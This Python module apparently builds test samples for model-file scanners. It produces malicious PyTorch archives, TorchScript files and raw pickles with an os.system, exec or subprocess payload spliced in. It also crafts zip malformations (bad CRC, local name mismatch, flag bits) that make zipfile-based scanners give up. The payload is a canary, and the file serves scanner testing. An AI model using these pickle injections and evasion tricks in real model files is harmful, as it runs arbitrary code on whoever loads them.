"""Malicious PyTorch files and the zip malformations PyTorch tolerates.

Covers zip archives (any folder name, stored or deflated), TorchScript, the legacy stacked-pickle and
tar formats, raw pickles under PyTorch extensions, and the zip malformations that Python's zipfile
rejects while PyTorch's reader ignores them.

Benign archives come from ``torch.save``/``torch.jit.save`` and the payload is spliced into their
pickle, so everything around it is authentic.
"""

from __future__ import annotations

import functools
import io
import pickle
import pickletools
import warnings
from collections import OrderedDict

from ._payload import EXEC, OS_SYSTEM, program, splice
from ._pickle_asm import Asm, Call, Global, Node, Raw
from ._registry import Canary, sample
from ._zipbytes import patch_member, read_zip, write_tar, write_zip

# -- helpers ---------------------------------------------------------------------------------------


@functools.cache
def _torch_members() -> tuple[tuple[str, bytes], ...]:
    import torch

    buf = io.BytesIO()
    torch.save(OrderedDict(weight=torch.arange(4.0), bias=torch.zeros(2)), buf)
    return tuple(read_zip(buf.getvalue()))


@functools.cache
def _torch_legacy() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(OrderedDict(weight=torch.arange(4.0)), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def torch_zip(
    c: Canary,
    node: Node | None = None,
    *,
    root: str = "archive",
    compress: bool = False,
    extra: tuple[tuple[str, bytes], ...] = (),
) -> bytes:
    """A ``torch.save`` zip whose ``data.pkl`` first runs ``node`` (default: os.system touch)."""
    members = [
        (root + name[len("archive") :], splice(data, node if node is not None else Call(OS_SYSTEM, (c.sh,))))
        if name.endswith("/data.pkl")
        else (root + name[len("archive") :], data)
        for name, data in _torch_members()
    ]
    members[1:1] = [(f"{root}/{n}", d) for n, d in extra]
    return write_zip(members, compress=compress)


def pickle_spans(data: bytes) -> list[tuple[int, int]]:
    """``(start, end)`` of each pickle at the head of ``data``, found with pickletools (never loads)."""
    spans, pos = [], 0
    while pos < len(data) and data[pos : pos + 1] == pickle.PROTO:
        end = pos
        for op, _arg, at in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + (at or 0) + 1
                break
        spans.append((pos, end))
        pos = end
    return spans


# -- PyTorch ---------------------------------------------------------------------------------------


_TORCH = {"loader": "torch", "requires": ("torch",)}


@sample(
    "torch_zip_data_pkl",
    technique="pytorch:zip-data.pkl",
    container="pytorch-zip",
    filename="pytorch_model.bin",
    description="torch.save zip (stored members) whose archive/data.pkl runs os.system before "
    "rebuilding the real state dict, so torch.load still returns the weights.",
    **_TORCH,  # type: ignore[arg-type]
)
def _tz(c: Canary) -> bytes:
    return torch_zip(c)


@sample(
    "torch_zip_custom_root",
    technique="pytorch:zip-data.pkl",
    container="pytorch-zip",
    filename="resnet18_finetuned.pth",
    description="Payload in data.pkl, archive folder renamed to resnet18_finetuned/ (torch accepts any "
    "folder name).",
    **_TORCH,  # type: ignore[arg-type]
)
def _tz_root(c: Canary) -> bytes:
    return torch_zip(c, Call(EXEC, (c.py,)), root="resnet18_finetuned")


@sample(
    "torch_zip_deflated",
    technique="pytorch:zip-deflated",
    container="pytorch-zip",
    filename="model.pt",
    description="Every member deflate-compressed; the payload bytes never appear in the file as written.",
    **_TORCH,  # type: ignore[arg-type]
)
def _tz_deflate(c: Canary) -> bytes:
    return torch_zip(c, Call(Global("subprocess", "getoutput"), (c.sh,)), compress=True)


@sample(
    "torch_zip_binpersid_key",
    technique="opcode:BINPERSID",
    container="pytorch-zip",
    filename="adapter_model.bin",
    description="Hand-written data.pkl whose storage key in the persistent-id tuple is "
    "str(os.system(cmd)) == '0': the payload runs inside torch's persistent_load path and the "
    "tensor still loads from data/0.",
    **_TORCH,  # type: ignore[arg-type]
)
def _tz_persid(c: Canary) -> bytes:
    key = Call(Global("builtins", "str"), (Call(OS_SYSTEM, (c.sh,)),))
    pid = Asm(2).push(("storage", Global("torch", "FloatStorage"), key, "cpu", 4)).binpersid()
    storage = Raw(pid.program(header=False, stop=False))
    tensor = Call(
        Global("torch._utils", "_rebuild_tensor_v2"),
        (storage, 0, (4,), (1,), False, Call(Global("collections", "OrderedDict"), ())),
    )
    data_pkl = Asm(2).push(Call(Global("collections", "OrderedDict"), ([("weight", tensor)],))).program()
    members = [
        ("archive/data.pkl", data_pkl),
        ("archive/byteorder", b"little"),
        ("archive/data/0", b"\x00" * 16),
        ("archive/version", b"3\n"),
    ]
    return write_zip(members)


@sample(
    "torchscript_constants_pkl",
    technique="pytorch:torchscript-constants",
    container="torchscript",
    filename="traced_model.pt",
    loader="none",
    requires=("torch",),
    description="A real TorchScript archive (torch.jit.save) whose constants.pkl starts with an "
    "os.system REDUCE. torch.jit.load and torch.load hand TorchScript pickles to the C++ unpickler, "
    "which rejects unknown globals, so no installed loader runs it; static-only sample.",
)
def _ts_constants(c: Canary) -> bytes:
    return _torchscript(c, constants=True)


@sample(
    "torchscript_code_injection",
    technique="pytorch:torchscript-code",
    container="torchscript",
    filename="scripted_model.pt",
    loader="none",
    requires=("torch",),
    description="TorchScript source (code/__torch__/...py) rewritten so forward() calls "
    "__import__('os').system(cmd). The TorchScript compiler rejects Python builtins, so loading "
    "fails without running anything; static-only sample for scanners that read the code records.",
)
def _ts_code(c: Canary) -> bytes:
    return _torchscript(c, constants=False)


@functools.cache
def _torchscript_members() -> tuple[tuple[str, bytes], ...]:
    import torch

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # TorchScript is deprecated, still shipped
        torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())), buf)
    return tuple(read_zip(buf.getvalue()))


def _torchscript(c: Canary, *, constants: bool) -> bytes:
    out = []
    injected = False
    marker = "    input0 = "
    for name, data in _torchscript_members():
        if constants and name.endswith("constants.pkl"):
            data = splice(data, Call(OS_SYSTEM, (c.sh,)))
            injected = True
        elif not constants and "/code/" in name and name.endswith(".py") and marker.encode() in data:
            # module names may be mangled (container/___torch_mangle_N.py) when other modules were scripted
            text = data.decode().replace(marker, f"    _x = __import__('os').system({c.sh!r})\n{marker}", 1)
            data = text.encode()
            injected = True
        out.append((name, data))
    if not injected:
        raise RuntimeError("TorchScript archive layout changed: no member to inject the payload into")
    return write_zip(out)


@sample(
    "torch_legacy_sysinfo_payload",
    technique="pytorch:legacy-stacked",
    container="pytorch-legacy",
    filename="model_legacy.pt",
    description="torch.save(_use_new_zipfile_serialization=False) stream of stacked pickles (magic, "
    "protocol, sys_info, data, storage keys, raw storage); the payload sits in the third (sys_info) "
    "pickle, not the first.",
    **_TORCH,  # type: ignore[arg-type]
)
def _legacy_sysinfo(c: Canary) -> bytes:
    return _legacy(c, 2)


@sample(
    "torch_legacy_data_payload",
    technique="pytorch:legacy-stacked",
    container="pytorch-legacy",
    filename="checkpoint_legacy.pth",
    description="Legacy stacked format with the payload in the fourth (data) pickle, read by torch's "
    "persistent-id aware unpickler.",
    **_TORCH,  # type: ignore[arg-type]
)
def _legacy_data(c: Canary) -> bytes:
    return _legacy(c, 3)


def _legacy(c: Canary, index: int) -> bytes:
    data = _torch_legacy()
    start, end = pickle_spans(data)[index]
    return data[:start] + splice(data[start:end], Call(OS_SYSTEM, (c.sh,))) + data[end:]


@sample(
    "torch_legacy_tar",
    technique="pytorch:legacy-tar",
    container="pytorch-tar",
    filename="model_v0_3.pt",
    description="The pre-1.0 tar format (members storages, tensors, pickle, sys_info); torch.load opens "
    "it with tarfile and unpickles 'storages' first, which carries the payload.",
    **_TORCH,  # type: ignore[arg-type]
)
def _legacy_tar(c: Canary) -> bytes:
    members = {
        "sys_info": pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol=2
        ),
        "storages": program(2, Call(OS_SYSTEM, (c.sh,))),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps(OrderedDict(), protocol=2),
    }
    return write_tar(members.items())


def _raw(name: str, filename: str, advisory: str | None, description: str, node_of: object) -> None:
    @sample(
        name,
        technique="pytorch:raw-pickle-extension",
        container="pickle",
        filename=filename,
        advisory=advisory,
        description=description,
        **_TORCH,  # type: ignore[arg-type]
    )
    def _build(c: Canary) -> bytes:
        return program(2, node_of(c))  # type: ignore[operator]


_raw(
    "torch_raw_pickle_bin",
    "pytorch_model.bin",
    "GHSA-jgw4-cr84-mqxg",
    "A plain pickle named pytorch_model.bin: torch.load falls back to the legacy reader, whose first "
    "pickle.load runs the payload; picklescan < 0.0.31 routed .bin to its zip parser and gave up.",
    lambda c: Call(OS_SYSTEM, (c.sh,)),
)
_raw(
    "torch_raw_pickle_pt",
    "weights.pt",
    None,
    "A plain protocol-2 pickle named .pt that execs source under torch.load.",
    lambda c: Call(EXEC, (c.py,)),
)
_raw(
    "torch_raw_pickle_ckpt",
    "last.ckpt",
    None,
    "A plain pickle named like a PyTorch Lightning checkpoint (.ckpt) calling subprocess.Popen.",
    lambda c: Call(Global("subprocess", "Popen"), (c.argv,)),
)


# -- zip malformations -----------------------------------------------------------------------------

_ZIP_TORCH = (
    " Python's zipfile raises on it while torch.load ignores it, so a zipfile-based scanner that gives up "
    "on the error misses the payload in data.pkl."
)


@sample(
    "torch_zip_bad_crc",
    technique="zip-trick:bad-crc",
    container="pytorch-zip",
    filename="pytorch_model_crc.bin",
    advisory="GHSA-mjqp-26hc-grxg",
    description="The stored CRC-32 of archive/data.pkl is wrong in both headers (PyTorch's miniz is "
    "built without CRC checks)." + _ZIP_TORCH,
    **_TORCH,  # type: ignore[arg-type]
)
def _bad_crc(c: Canary) -> bytes:
    return patch_member(torch_zip(c), "archive/data.pkl", crc_xor=0x5A5A5A5A)


@sample(
    "torch_zip_local_name_mismatch",
    technique="zip-trick:local-name-mismatch",
    container="pytorch-zip",
    filename="does_not_scan.pth",
    advisory="GHSA-7q5r-7gvp-wc82",
    description="The local file header names archive/datap.kl while the central directory says "
    "archive/data.pkl; miniz trusts the central directory." + _ZIP_TORCH,
    **_TORCH,  # type: ignore[arg-type]
)
def _name_mismatch(c: Canary) -> bytes:
    return patch_member(torch_zip(c), "archive/data.pkl", local_name="archive/datap.kl")


@sample(
    "torch_zip_encrypted_flag_member",
    technique="zip-trick:flag-bits",
    container="pytorch-zip",
    filename="model_flagged.pt",
    advisory="GHSA-w8jq-xcqf-f792",
    description="An extra member placed right after data.pkl has the 'encrypted' general-purpose flag "
    "(bit 0) set; torch never reads it. (torch 2.x refuses flag bits on records it does read, so the "
    "flag sits on a sibling.)" + _ZIP_TORCH,
    **_TORCH,  # type: ignore[arg-type]
)
def _flag_enc(c: Canary) -> bytes:
    data = torch_zip(c, extra=(("extra/metadata.bin", b"\x00" * 32),))
    return patch_member(data, "archive/extra/metadata.bin", flags_or=0x01)


@sample(
    "torch_zip_patched_flag_member",
    technique="zip-trick:flag-bits",
    container="pytorch-zip",
    filename="model_patched.pt",
    advisory="GHSA-w8jq-xcqf-f792",
    description="Same shape with bits 5 and 6 (compressed patched data, strong encryption) on a sibling "
    "member; zipfile raises NotImplementedError." + _ZIP_TORCH,
    **_TORCH,  # type: ignore[arg-type]
)
def _flag_patch(c: Canary) -> bytes:
    data = torch_zip(c, Call(EXEC, (c.py,)), extra=(("extra/notes.txt", b"release notes"),))
    return patch_member(data, "archive/extra/notes.txt", flags_or=0x60)
